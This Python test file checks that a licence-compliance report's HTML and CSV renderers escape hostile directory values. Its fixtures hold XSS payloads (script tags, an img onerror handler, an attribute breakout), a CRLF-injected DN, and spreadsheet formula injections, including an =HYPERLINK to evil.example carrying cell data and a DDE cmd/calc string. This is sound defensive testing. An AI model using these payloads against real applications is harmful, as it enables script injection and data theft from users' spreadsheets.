"""HTML and CSV rendering of the compliance report, with realistic and hostile directory values.

The HTML is parsed with the stdlib ``html.parser`` into a tiny element tree, so the assertions are
about what a browser would build (elements, attributes, text), not about substrings of markup.
"""

from __future__ import annotations

import copy
import csv
import io
from html.parser import HTMLParser

import pytest

from agent.reports.csv_export import (
    FINDING_COLUMNS,
    PRODUCT_COLUMNS,
    render_findings_csv,
    render_products_csv,
)
from agent.reports.html import render_html

SCRIPT_NAME = "<script>alert(1)</script>"
IMG_NAME = "<img src=x onerror=alert(1)>"
CRLF_DN = "CN=Evil\r\n</td></tr><tr><td>injected,OU=Staff,DC=corp,DC=example,DC=com"
UNICODE_NAME = "Zoë Ångström 山田太郎"

# ---------------------------------------------------------------------------------------------
# Report builders


def principal(name, *, display_name=None, dn=None, kind="user", directory="corp", state="active"):
    return {
        "kind": kind,
        "name": name,
        "directory": directory,
        "dn": dn or f"CN={name},OU=Staff,DC=corp,DC=example,DC=com",
        "display_name": display_name,
        "state": state,
    }


def finding(kind, severity, *, who=None, product="windows-server", version="2022",
            cal_type="user", purchase=None, reason=None, since=None, message=None):
    name = who["name"] if who else "-"
    return {
        "key": f"{kind}|corp|{name}|{product}|{version}|{cal_type}",
        "kind": kind,
        "severity": severity,
        "product": product,
        "version": version,
        "cal_type": cal_type,
        "principal": who,
        "purchase": purchase,
        "reason": reason,
        "since": since,
        "message": message or f"{kind} for {name}",
    }


def make_report(*, compliant=False, findings=None, previous_id=2, new=(), resolved=(),
                directories=None, products=None, shortfall=4):
    findings = list(findings if findings is not None else default_findings())
    errors = sum(1 for f in findings if f["severity"] == "error")
    by_kind: dict[str, int] = {}
    for f in findings:
        by_kind[f["kind"]] = by_kind.get(f["kind"], 0) + 1
    return {
        "schema_version": 1,
        "generated_at": "2026-11-24T19:00:00Z",
        "run": {"id": 3, "previous_id": previous_id},
        "compliant": compliant,
        "summary": {
            "findings": len(findings),
            "errors": errors,
            "warnings": len(findings) - errors,
            "shortfall": shortfall,
            "by_kind": by_kind,
        },
        "directories": directories if directories is not None else [
            {
                "name": "corp",
                "type": "active_directory",
                "last_sync": {
                    "status": "ok", "finished_at": "2026-11-24T18:59:00Z", "users": 200,
                    "groups": 30, "computers": 40, "tombstones": 3, "error": None,
                },
            }
        ],
        "products": products if products is not None else [
            {"product": "windows-server", "product_name": "Windows Server", "version": "2022",
             "cal_type": "user", "required": 180, "owned": 176, "assigned": 172, "licensed": 160, "free": 4, "shortfall": 4},
            {"product": "rds", "product_name": "Remote Desktop Services", "version": "2019",
             "cal_type": "device", "required": 35, "owned": 40, "assigned": 37, "licensed": 35, "free": 3, "shortfall": 0},
        ],
        "findings": findings,
        "drift": {"new": list(new), "resolved": list(resolved)},
    }


def default_findings():
    return [
        finding("stale_assignment", "warning",
                who=principal("old.smith", display_name="Old Smith", state="disabled"),
                purchase="PO-2024-0117", reason="disabled", since="2026-10-01T08:30:00Z",
                message="old.smith is disabled and still holds a Windows Server 2022 user CAL"),
        finding("unlicensed_user", "error",
                who=principal("jdoe", display_name=SCRIPT_NAME),
                message="jdoe needs a Windows Server 2022 user CAL and holds none"),
        finding("unlicensed_user", "error",
                who=principal("mallory", display_name=IMG_NAME, dn=CRLF_DN),
                message="mallory needs a Windows Server 2022 user CAL and holds none"),
        finding("unlicensed_device", "error",
                who=principal("WS-0042", kind="computer", display_name=UNICODE_NAME),
                product="rds", version="2019", cal_type="device",
                message="WS-0042 needs an RDS 2019 device CAL and holds none"),
        finding("shortfall", "error", who=None,
                message="Windows Server 2022 user CALs: 180 required, 176 owned: buy 4 more"),
    ]


# ---------------------------------------------------------------------------------------------
# A minimal DOM built from html.parser

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
        "track", "wbr"}


class Node:
    def __init__(self, tag, attrs, parent):
        self.tag = tag
        self.attrs = dict(attrs)
        self.attr_list = list(attrs)
        self.parent = parent
        self.children: list[Node | str] = []

    @property
    def classes(self):
        return (self.attrs.get("class") or "").split()

    def text(self):
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def iter(self):
        for child in self.children:
            if isinstance(child, Node):
                yield child
                yield from child.iter()

    def find_all(self, tag=None, cls=None, **attrs):
        return [
            n for n in self.iter()
            if (tag is None or n.tag == tag)
            and (cls is None or cls in n.classes)
            and all(n.attrs.get(k.replace("_", "-")) == v for k, v in attrs.items())
        ]

    def find(self, tag=None, cls=None, **attrs):
        found = self.find_all(tag, cls, **attrs)
        assert found, f"no <{tag or '*'}> class={cls} {attrs}"
        return found[0]

    def by_id(self, element_id):
        return self.find(id=element_id)


class TreeBuilder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", [], None)
        self.current = self.root

    def handle_starttag(self, tag, attrs):
        node = Node(tag, attrs, self.current)
        self.current.children.append(node)
        if tag not in VOID:
            self.current = node

    def handle_startendtag(self, tag, attrs):
        self.current.children.append(Node(tag, attrs, self.current))

    def handle_endtag(self, tag):
        node = self.current
        while node is not self.root and node.tag != tag:
            node = node.parent
        assert node is not self.root, f"stray </{tag}>"
        self.current = node.parent

    def handle_data(self, data):
        self.current.children.append(data)


def parse(markup: str) -> Node:
    builder = TreeBuilder()
    builder.feed(markup)
    builder.close()
    assert builder.current is builder.root, f"unclosed <{builder.current.tag}>"
    return builder.root


def squash(text: str) -> str:
    return " ".join(text.split())


def cells(row: Node) -> list[str]:
    return [squash(td.text()) for td in row.find_all("td")]


@pytest.fixture
def report():
    return make_report()


@pytest.fixture
def doc(report):
    return parse(render_html(report))


# ---------------------------------------------------------------------------------------------
# HTML: what the admin sees


def test_headline_says_not_compliant_with_shortfall_and_counts(doc):
    headline = doc.by_id("headline")
    text = squash(headline.text())
    assert "not-compliant" in headline.classes
    assert text.startswith("Not compliant")
    assert "Shortfall: 4 CALs" in text
    assert "4 errors" in text and "1 warning" in text
    assert "run 3" in text and "compared with run 2" in text
    assert "2026-11-24 19:00 UTC" in text
    assert squash(doc.find("title").text()).startswith("CAL compliance: Not compliant")


def test_compliant_report_shows_compliant(report):
    report.update(compliant=True, findings=[])
    report["summary"].update(findings=0, errors=0, warnings=0, shortfall=0, by_kind={})
    doc = parse(render_html(report))
    headline = doc.by_id("headline")
    assert "compliant" in headline.classes and "not-compliant" not in headline.classes
    assert squash(headline.find("p", cls="status").text()) == "Compliant"
    assert "Not compliant" not in doc.text()
    assert "Compliant" in doc.find("title").text()
    assert "No findings." in doc.by_id("findings").text()


def test_page_is_self_contained_and_printable(report):
    markup = render_html(report)
    doc = parse(markup)
    meta = doc.find("meta")
    assert meta.attrs.get("charset") == "utf-8"
    tags = {n.tag for n in doc.iter()}
    assert not tags & {"script", "link", "img", "iframe", "object", "embed", "base", "form"}
    for node in doc.iter():
        assert "src" not in node.attrs and "href" not in node.attrs, node.tag
    style = doc.find("style").text()
    assert "@media print" in style
    assert "url(" not in style and "@import" not in style and "position: sticky" not in style


def test_product_table_rows_and_shortfall_highlight(doc):
    rows = {r.attrs["data-product"]: r for r in doc.by_id("products").find_all("tr", cls="product")}
    assert set(rows) == {"windows-server", "rds"}
    assert cells(rows["windows-server"]) == [
        "Windows Server windows-server", "2022", "user", "180", "176", "172", "160", "4", "4",
    ]
    assert "short" in rows["windows-server"].classes
    assert "short" not in rows["rds"].classes
    numeric = [td for td in rows["rds"].find_all("td") if "num" in td.classes]
    assert [squash(td.text()) for td in numeric] == ["35", "40", "37", "35", "3", "0"]


def test_hostile_display_names_are_text_not_markup(report):
    markup = render_html(report)
    doc = parse(markup)
    assert doc.find_all("script") == []
    assert doc.find_all("img") == []
    for node in doc.iter():
        assert not any(name.startswith("on") for name, _ in node.attr_list), node.attr_list
    text = doc.text()
    assert SCRIPT_NAME in text
    assert IMG_NAME in text
    assert SCRIPT_NAME not in markup  # only ever present escaped


def test_hostile_kind_cannot_break_out_of_attribute(report):
    evil_kind = 'x" onmouseover="alert(1)'
    report["findings"].append(finding(evil_kind, "warning", who=principal("eve")))
    doc = parse(render_html(report))
    rows = doc.by_id("findings").find_all("tr", cls="finding")
    assert [r.attrs["data-kind"] for r in rows].count(evil_kind) == 1
    for node in doc.iter():
        assert "onmouseover" not in node.attrs


def test_crlf_in_values_keeps_one_row_per_finding(report):
    doc = parse(render_html(report))
    findings = doc.by_id("findings")
    rows = findings.find_all("tr", cls="finding")
    assert len(rows) == len(report["findings"])
    for table in findings.find_all("table"):
        width = len(table.find("thead").find_all("th"))
        for row in table.find("tbody").find_all("tr"):
            assert len(row.find_all("td")) == width
    mallory = next(r for r in rows if "mallory" in cells(r))
    assert squash(CRLF_DN) in cells(mallory)


def test_non_ascii_values_survive(doc):
    assert UNICODE_NAME in doc.by_id("findings").text()


def test_findings_grouped_by_kind_errors_first_with_actions(doc):
    groups = doc.by_id("findings").find_all("section", cls="group")
    kinds = [g.attrs["data-kind"] for g in groups]
    # stale_assignment came first in the report but holds only warnings.
    assert kinds == ["unlicensed_user", "unlicensed_device", "shortfall", "stale_assignment"]
    by_kind = {g.attrs["data-kind"]: g for g in groups}
    assert squash(by_kind["unlicensed_user"].find("h3").text()).startswith("Unlicensed users (2")
    assert "Assign a CAL from a purchase with free seats, or buy more" in by_kind[
        "unlicensed_user"].text()
    assert "Buy 4 more CALs" in by_kind["shortfall"].text()
    assert "Release the seat: its holder left or is inactive" in by_kind["stale_assignment"].text()
    user_rows = by_kind["unlicensed_user"].find_all("tr", cls="finding")
    assert {r.attrs["data-kind"] for r in user_rows} == {"unlicensed_user"}


def test_group_order_follows_severity_not_kind(report):
    report["findings"] = [
        finding("unlicensed_user", "warning", who=principal("ann")),
        finding("stale_assignment", "error", who=principal("bob"), reason="deleted"),
        finding("quota_exceeded", "error", who=principal("cy")),
    ]
    doc = parse(render_html(report))
    kinds = [g.attrs["data-kind"] for g in doc.by_id("findings").find_all("section", cls="group")]
    assert kinds == ["stale_assignment", "quota_exceeded", "unlicensed_user"]


def test_finding_row_shows_principal_details(doc):
    stale = doc.by_id("findings").find("tr", cls="finding", data_kind="stale_assignment")
    row = cells(stale)
    assert row[:5] == ["Warning", "old.smith", "Old Smith", "corp",
                       "CN=old.smith,OU=Staff,DC=corp,DC=example,DC=com"]
    assert row[5] == "disabled"
    assert row[6] == "2026-10-01 08:30 UTC"
    assert row[7] == "PO-2024-0117"
    assert row[-1].startswith("old.smith is disabled")


def test_unknown_kind_renders_generically(report):
    report["findings"].append(
        finding("license_expiring", "warning", who=principal("ann"),
                message="Purchase PO-2023-0001 expires in 10 days")
    )
    doc = parse(render_html(report))
    group = doc.by_id("findings").find("section", cls="group", data_kind="license_expiring")
    assert squash(group.find("h3").text()).startswith("License expiring (1")
    row = group.find("tr", cls="finding")
    assert "ann" in cells(row)
    assert "Purchase PO-2023-0001 expires in 10 days" in cells(row)


def test_first_run_has_no_drift_to_compare(report):
    report["run"]["previous_id"] = None
    doc = parse(render_html(report))
    drift = doc.by_id("drift")
    assert "First run: no previous run to compare" in squash(drift.text())
    assert drift.find_all("tr") == []
    assert "compared with run" not in doc.by_id("headline").text()


def test_no_changes_since_previous_run(doc):
    assert "No changes since run 2" in squash(doc.by_id("drift").text())


def test_drift_lists_new_and_resolved_findings(report):
    new = finding("unlicensed_user", "error", who=principal("newbie", display_name=SCRIPT_NAME))
    gone = finding("stale_assignment", "warning", who=principal("leaver"), reason="deleted")
    report["drift"] = {"new": [new], "resolved": [gone]}
    doc = parse(render_html(report))
    drift = doc.by_id("drift")
    assert "No changes" not in drift.text() and "First run" not in drift.text()
    new_rows = drift.find("div", id="drift-new").find_all("tr", cls="drift-finding")
    resolved_rows = drift.find("div", id="drift-resolved").find_all("tr", cls="drift-finding")
    assert [r.attrs["data-kind"] for r in new_rows] == ["unlicensed_user"]
    assert any("newbie" in c for c in cells(new_rows[0]))
    assert [r.attrs["data-kind"] for r in resolved_rows] == ["stale_assignment"]
    assert any("leaver" in c for c in cells(resolved_rows[0]))
    assert drift.find_all("script") == []


def test_a_big_estate_lists_the_first_rows_of_each_table_with_exact_counts():
    # At 100,000 users every table would hold tens of thousands of rows (82 MB of HTML, too big
    # for a browser): each lists its first HTML_ROWS, the counts stay exact, and the page says
    # where the full lists are.
    from agent.reports.html import HTML_ROWS

    many = HTML_ROWS + 7
    unlicensed = [finding("unlicensed_user", "error", who=principal(f"u{i:05d}")) for i in range(many)]
    stale = [finding("stale_assignment", "warning", who=principal(f"gone{i:05d}", state="disabled"),
                     purchase="PO-1", reason="disabled") for i in range(many)]
    report = make_report(findings=unlicensed + stale, new=unlicensed)
    report["licences"] = [{"principal": principal(f"u{i:05d}"), "holds": [],
                           "needs": [{"product": "windows-server", "version": "2022", "cal_type": "user",
                                      "licensed": i % 2 == 0}]} for i in range(many)]
    doc = parse(render_html(report))
    group = doc.find("section", cls="group", **{"data-kind": "unlicensed_user"})
    assert len(group.find_all("tr", cls="finding")) == HTML_ROWS
    assert f"({many:,} errors)" in squash(group.text())
    notes = [squash(n.text()) for n in doc.find_all("p", cls="more")]
    expected = f"The first {HTML_ROWS:,} of {many:,} are listed here"
    assert len(notes) == 5 and all(n.startswith(expected) for n in notes)  # 2 groups, drift, leavers, licences
    # each says where its full list is: findings are in the CSV and xlsx too, licences only in the JSON
    assert "report --format csv" in squash(group.text())
    assert squash(doc.by_id("licences").find("p", cls="more").text()).endswith("the JSON report has them all.")
    assert len(doc.by_id("drift").find_all("tr", cls="drift-finding")) == HTML_ROWS
    assert f"{many:,} new findings" in squash(doc.by_id("drift").text())
    assert len(doc.by_id("leavers").find_all("tr", cls="leaver")) == HTML_ROWS
    assert f"{many:,} departed accounts" in squash(doc.by_id("leavers").text())
    licences = doc.by_id("licences")
    assert len(licences.find_all("tr", cls="licence")) == HTML_ROWS
    assert f"{many:,} principals hold or need a CAL; {many // 2:,} lack one" in squash(licences.text())


def test_a_big_group_of_mixed_severities_lists_its_most_severe_rows_first():
    # A kind's rows are its findings by severity (errors first, then warnings, then anything
    # else, each in report order), the first HTML_ROWS of them, whatever order they come in; the
    # page keeps only those as it reads the findings, and counts the rest.
    from agent.reports.html import HTML_ROWS

    def odd(i, severity):
        return finding("weird_kind", severity, who=principal(f"{severity or 'none'}{i:05d}"))

    members = ([odd(i, "warning") for i in range(HTML_ROWS - 5)] + [odd(i, None) for i in range(3)]
               + [odd(i, "error") for i in range(4)] + [odd(i, "warning") for i in range(HTML_ROWS, HTML_ROWS + 9)])
    report = make_report(findings=members, new=members[::-1])
    doc = parse(render_html(report))
    group = doc.find("section", cls="group", **{"data-kind": "weird_kind"})
    names = [cells(row)[1] for row in group.find_all("tr", cls="finding")]
    expected = [f["principal"]["name"] for f in
                ([m for m in members if m["severity"] == "error"] + [m for m in members if m["severity"] == "warning"]
                 + [m for m in members if m["severity"] is None])][:HTML_ROWS]
    assert len(names) == HTML_ROWS and names == expected
    assert f"{len(members):,} findings: 4 errors, {HTML_ROWS + 4:,} warnings, 3 others" in squash(group.text())
    drift = [cells(row)[2].split()[0] for row in doc.by_id("drift").find_all("tr", cls="drift-finding")]
    reversed_expected = [f["principal"]["name"] for f in
                         ([m for m in members[::-1] if m["severity"] == "error"]
                          + [m for m in members[::-1] if m["severity"] == "warning"])][:HTML_ROWS]
    assert drift == reversed_expected


def test_directory_sync_status_failed_is_prominent(report):
    report["directories"].append({
        "name": "branch", "type": "active_directory",
        "last_sync": {"status": "failed", "finished_at": "2026-11-24T18:58:00Z", "users": None,
                      "groups": None, "computers": None, "tombstones": None,
                      "error": "LDAP bind failed: <b>invalid credentials</b>"},
    })
    report["directories"].append({"name": "lab", "type": "ldif", "last_sync": None})
    report["directories"].append({
        "name": "emea", "type": "active_directory",
        "last_sync": {"status": "partial", "finished_at": "2026-11-24T18:57:00Z", "users": 10,
                      "groups": 1, "computers": 2, "tombstones": 0,
                      "error": "OU=Sales unreadable: insufficient access"},
    })
    doc = parse(render_html(report))
    items = {squash(li.find("strong").text()): li
             for li in doc.by_id("directories").find_all("li", cls="directory")}
    assert "sync-ok" in items["corp"].classes
    assert "200 users, 30 groups, 40 computers, 3 tombstones" in squash(items["corp"].text())
    assert "sync-failed" in items["branch"].classes
    branch = squash(items["branch"].text())
    assert "FAILED" in branch and "LDAP bind failed: <b>invalid credentials</b>" in branch
    assert items["branch"].find_all("b") == []
    assert "never synced" in items["lab"].text()
    assert "sync-failed" in items["emea"].classes  # an error is never shown as a quiet success
    assert "OU=Sales unreadable: insufficient access" in items["emea"].text()


# ---------------------------------------------------------------------------------------------
# CSV


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def expected_finding_row(f: dict) -> list[str]:
    p = f["principal"] or {}
    values = [f["kind"], f["severity"], f["product"], f["version"], f["cal_type"], p.get("kind"),
              p.get("name"), p.get("display_name"), p.get("directory"), p.get("dn"),
              p.get("state"), f["reason"], f["since"], f["purchase"], f["message"]]
    return ["" if v is None else v for v in values]


def test_findings_csv_round_trips(report):
    text = render_findings_csv(report)
    assert text.startswith(",".join(FINDING_COLUMNS) + "\r\n")
    assert text.endswith("\r\n")
    rows = read_csv(text)
    assert rows[0] == list(FINDING_COLUMNS)
    assert rows[1:] == [expected_finding_row(f) for f in report["findings"]]


def test_newline_inside_a_cell_stays_one_record(report):
    text = render_findings_csv(report)
    rows = read_csv(text)
    assert len(rows) == 1 + len(report["findings"])
    mallory = next(r for r in rows if r[FINDING_COLUMNS.index("principal_name")] == "mallory")
    assert mallory[FINDING_COLUMNS.index("dn")] == CRLF_DN
    assert '"' + CRLF_DN + '"' in text  # quoted, CR/LF kept verbatim


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-cmd", "@SUM(A1:A9)",
     "\tcalc", "\r=1+1"],
)
def test_formula_cells_are_neutralised(hostile):
    who = principal(hostile, display_name=hostile, dn=hostile)
    report = make_report(findings=[finding("unlicensed_user", "error", who=who, message=hostile)])
    rows = read_csv(render_findings_csv(report))
    row = dict(zip(FINDING_COLUMNS, rows[1]))
    for column in ("principal_name", "display_name", "dn", "message"):
        assert row[column] == "'" + hostile, column
    assert row["kind"] == "unlicensed_user"  # harmless cells untouched


def test_harmless_text_is_not_prefixed(report):
    rows = read_csv(render_findings_csv(report))
    for row in rows[1:]:
        assert not any(cell.startswith("'") for cell in row), row


def test_products_csv_writes_numbers_as_numbers():
    products = [
        {"product": "windows-server", "product_name": "=cmd|' /C calc'!A0", "version": "2022",
         "cal_type": "user", "required": 180, "owned": 176, "assigned": 172, "licensed": 160, "free": 4, "shortfall": 4},
        {"product": "-rds", "product_name": "Remote Desktop Services", "version": "2019",
         "cal_type": "device", "required": 35, "owned": 40, "assigned": 37, "licensed": 35, "free": 3, "shortfall": -5},
    ]
    text = render_products_csv(make_report(products=products))
    rows = read_csv(text)
    assert rows[0] == list(PRODUCT_COLUMNS)
    assert rows[1] == ["windows-server", "'=cmd|' /C calc'!A0", "2022", "user", "180", "176",
                       "172", "160", "4", "4"]
    assert rows[2] == ["'-rds", "Remote Desktop Services", "2019", "device", "35", "40", "37", "35", "3", "-5"]
    assert text.splitlines()[2].endswith(",-5")  # a bare number, not quoted text


def test_products_csv_round_trips_default_report(report):
    rows = read_csv(render_products_csv(report))
    assert rows[1:] == [[str(p[c]) for c in PRODUCT_COLUMNS] for p in report["products"]]


def test_rendering_does_not_mutate_the_report(report):
    before = copy.deepcopy(report)
    render_html(report)
    render_findings_csv(report)
    render_products_csv(report)
    assert report == before
